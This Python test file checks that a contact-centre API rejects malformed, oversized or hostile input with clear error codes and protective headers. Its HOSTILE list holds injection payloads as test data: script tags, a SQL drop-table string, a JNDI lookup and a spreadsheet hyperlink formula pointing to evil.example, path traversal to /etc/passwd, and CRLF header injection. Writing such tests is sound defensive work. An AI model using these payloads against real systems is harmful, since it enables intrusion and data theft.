"""Bad input: each kind gets a code and a place, nothing happens, and nobody sees how it is made."""

import asyncio
import io

import pytest

from otklik.api.strict import BODY_LIMIT_BYTES
from otklik.vocabulary.refusals import Refused
from tests.api.house import House, rows

pytestmark = [pytest.mark.database, pytest.mark.asyncio(loop_scope="module")]

JSON = {"Content-Type": "application/json"}
HOSTILE = (
    "<script>alert(1)</script>",
    "'; drop table customer; --",
    '{"$ne": null}',
    '=HYPERLINK("http://evil.example")',
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "\u202eevil",
    "👩‍👩‍👧‍👦" * 10,
    "%00%0d%0aSet-Cookie: a=b",
    "a" * 120,
)


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"", "missing"),
        (b"{", "not_json"),
        (b'{"name": "a", "name": "b"}', "doubled_key"),
        (b'{"name": NaN}', "not_a_number"),
        (b'{"name": "\xff"}', "not_json"),
        (b"[" * 40 + b"]" * 40, "too_deep"),
        (b'{"name": ' + b"[" * 20000, "too_deep"),
        (b'{"name": "a\\u0000b"}', "control_character"),
        (b'{"name": "\\ud800"}', "control_character"),
        (b'{"name": ""}', "too_short"),
        (b'{"name": "  "}', "too_short"),
        (b'{"name": 5}', "wrong_type"),
        (b'{"name": null}', "wrong_type"),
        (b'{"name": "a", "rights": []}', "unknown_field"),
        (b"[]", "wrong_type"),
        (b'"text"', "wrong_type"),
    ],
)
async def test_a_malformed_body_gets_its_code(house: House, body: bytes, code: str) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask("POST", "/api/v1/skills", data=body, headers=JSON)

    assert reply.status == 422
    assert reply.code == "invalid"
    assert reply.json["problems"][0]["code"] == code


async def test_every_wrong_field_is_named_at_once(house: House) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask(
        "POST",
        "/api/v1/hours",
        {
            "name": "",
            "weekly": {day: [["09:00", "25:00"]] for day in ("mon", "tue")},
            "exceptions": [{"date": "2026-02-30", "spans": [], "note": ""}],
        },
    )

    places = {problem["place"] for problem in reply.json["problems"]}
    assert {"name", "weekly.mon.0.1", "weekly.wed", "exceptions.0.date"} <= places


async def test_a_refusal_of_a_room_names_the_place_too(house: House) -> None:
    admin = await house.signed_in("admin")
    hours = {
        "name": "overlapping",
        "weekly": {
            day: [["09:00", "18:00"], ["10:00", "12:00"]] if day == "tue" else []
            for day in ("mon", "tue", "wed", "thu", "fri", "sat", "sun")
        },
    }

    reply = await admin.ask("POST", "/api/v1/hours", hours)

    assert reply.status == 422
    assert reply.json["problems"][0]["code"] == "hours_span_overlap"
    assert reply.json["problems"][0]["place"]


@pytest.mark.parametrize("size", [BODY_LIMIT_BYTES + 1, 3 * BODY_LIMIT_BYTES])
async def test_a_body_too_large_is_refused_before_it_is_read(house: House, size: int) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask("POST", "/api/v1/skills", data=io.BytesIO(b" " * size), headers=JSON)

    assert (reply.status, reply.code) == (413, "body_too_large")


async def test_a_body_of_untold_length_is_counted_while_it_comes(house: House) -> None:
    admin = await house.signed_in("admin")

    async def endless():
        for _ in range(40):
            yield b" " * 65536

    reply = await admin.ask("POST", "/api/v1/skills", data=endless(), headers=JSON)

    assert (reply.status, reply.code) == (413, "body_too_large")


async def test_only_json_is_taken(house: House) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask(
        "POST", "/api/v1/skills", data=b'{"name": "a"}', headers={"Content-Type": "text/plain"}
    )

    assert reply.status in (415, 422)
    assert await rows(house, "select 1 from skill where name = 'a'") == []


async def test_an_address_that_is_none_is_told_so_and_is_no_page(house: House) -> None:
    reply = await house.browser().ask("GET", "/api/v1/nothing/here")
    assert (reply.status, reply.code) == (404, "not_found")

    reply = await house.browser().ask("DELETE", "/api/v1/public")
    assert (reply.status, reply.code) == (405, "method_not_allowed")


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/interactions/0",
        "/api/v1/interactions/-1",
        "/api/v1/interactions/9223372036854775808",
        "/api/v1/interactions/99999999999999999999999",
        "/api/v1/interactions/abc",
        "/api/v1/queues/0",
        "/api/v1/queues/70000",
        "/api/v1/people/4294967296",
        "/api/v1/interactions?from=2026-11-24&to=2026-11-23",
        "/api/v1/interactions?from=0001-01-01&to=9999-12-31",
        "/api/v1/interactions?from=yesterday&to=2026-11-23",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&limit=501",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&cursor=x",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&cursor=9-9999999999999999999999",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&outcome=nonsense",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&min_wait_seconds=nan",
        "/api/v1/interactions?from=2026-11-23&to=2026-11-24&queue=99999",
        "/api/v1/reports/days?from=2026-11-24&to=2026-11-24",
        "/api/v1/reports/agents?from=2020-01-01&to=2026-01-01",
        "/api/v1/reports/days?from=0001-01-01&to=0001-01-02",
        "/api/v1/reports/heat?from=0001-01-01&to=0001-01-02",
        "/api/v1/reports/heat?from=2026-01-01&to=2026-06-01&rows=day",
        "/api/v1/reports/waits?from=2026-11-23&to=2026-11-24&step_seconds=0",
        "/api/v1/reports/repeats?from=2026-11-23&to=2026-11-24&days=31",
        "/api/v1/interactions/behind?drill=repeated&start=2026-11-23T00:00:00Z&stop=2026-11-24T00:00:00Z",
        "/api/v1/interactions/behind?drill=calls&start=2026-11-23T00:00:00Z&stop=2026-11-24T00:00:00Z&hour=24",
        "/api/v1/history?entity=Robert'%29%3B",
        "/api/v1/interactions/behind?drill=answered&start=2026-11-23T00:00:00&stop=2026-11-24T00:00:00Z",
        "/api/v1/interactions/behind?drill=everything&start=2026-11-23T00:00:00Z&stop=2026-11-24T00:00:00Z",
    ],
)
async def test_a_wrong_parameter_is_refused_and_never_reaches_the_database(house: House, path: str) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask("GET", path)

    assert reply.status == 422, reply.body.decode()
    assert reply.json["problems"]


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_text_comes_back_as_the_text_that_it_is(house: House, text: str) -> None:
    admin = await house.signed_in("admin")

    reply = await admin.ask("POST", "/api/v1/skills", {"name": text})

    if reply.status == 201:
        kept = (await admin.get(f"/api/v1/skills/{reply.json['id']}"))["name"]
        assert kept == " ".join(text.split()).strip("\u202e")
    else:
        assert reply.status in (409, 422)
    assert reply.headers["Content-Type"].startswith("application/json")
    assert reply.headers["X-Content-Type-Options"] == "nosniff"


async def test_when_the_engine_is_away_the_code_says_so_and_reading_goes_on(house: House) -> None:
    admin = await house.signed_in("admin")
    await house.door.close()
    try:
        reply = await admin.ask("POST", "/api/v1/skills", {"name": "never"})

        assert (reply.status, reply.code) == (503, "engine_away")
        assert int(reply.headers["Retry-After"]) >= 1
        assert (await admin.ask("GET", "/api/v1/skills")).status == 200
        assert (await admin.ask("GET", "/api/v1/trunks")).status == 200
    finally:
        await house.door.open()
    assert (await admin.ask("POST", "/api/v1/skills", {"name": "now"})).status == 201


async def test_when_the_database_is_away_the_code_says_so_and_it_is_found_again(house: House) -> None:
    admin = await house.signed_in("admin")
    pool = house.parts.pool

    class Away:
        def acquire(self, **_: object):
            raise ConnectionRefusedError("the database is away")

    house.parts.pool = Away()
    try:
        reply = await admin.ask("GET", "/api/v1/skills")
    finally:
        house.parts.pool = pool

    assert (reply.status, reply.code) == (503, "journal_unavailable")
    assert (await admin.ask("GET", "/api/v1/skills")).status == 200


async def test_connections_that_the_database_cut_are_replaced(house: House) -> None:
    admin = await house.signed_in("admin")
    await rows(
        house,
        "select pg_terminate_backend(pid) from pg_stat_activity"
        " where application_name = 'otklik web' and datname = current_database()",
    )

    replies = [await admin.ask("GET", "/api/v1/skills") for _ in range(5)]

    assert {reply.status for reply in replies} <= {200, 503}
    assert replies[-1].status == 200


async def test_a_bug_is_told_without_its_trace(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    admin = await house.signed_in("admin")

    async def broken(*_: object, **__: object) -> None:
        raise ZeroDivisionError("the secret inside")

    monkeypatch.setattr("otklik.organization.store.list_things", broken)

    reply = await admin.ask("GET", "/api/v1/skills")

    assert (reply.status, reply.code) == (500, "bug")
    assert b"secret" not in reply.body
    assert b"Zero" not in reply.body
    assert reply.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_refusal_of_the_engine_keeps_its_code_and_facts(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    anna = await house.signed_in("anna")

    async def refusing(request: object) -> None:
        raise Refused("agent_busy", state="connected")

    monkeypatch.setattr(house.parts.engine, "ask", refusing)

    reply = await anna.ask("POST", "/api/v1/desk/ready")

    assert reply.status == 409
    assert reply.json == {"code": "agent_busy", "facts": {"state": "connected"}}


async def test_every_answer_carries_the_headers_that_guard_it(house: House) -> None:
    for path in ("/api/v1/public", "/api/v1/me", "/api/nothing", "/", "/assets/none.js"):
        headers = (await house.browser().ask("GET", path)).headers
        assert "default-src 'self'" in headers["Content-Security-Policy"], path
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert "script-src 'self';" in headers["Content-Security-Policy"], path
        assert "microphone=(self)" in headers["Permissions-Policy"], path
        assert headers["X-Frame-Options"] == "DENY", path
        assert "Strict-Transport-Security" not in headers, "on loopback there is no HTTPS to insist on"
        if path.startswith("/api/"):
            assert headers["Cache-Control"] == "no-store", path
        assert "Server" not in headers


async def test_many_requests_at_once_are_all_answered(house: House) -> None:
    admin = await house.signed_in("admin")

    replies = await asyncio.gather(*(admin.ask("GET", "/api/v1/queues") for _ in range(60)))

    assert {reply.status for reply in replies} == {200}
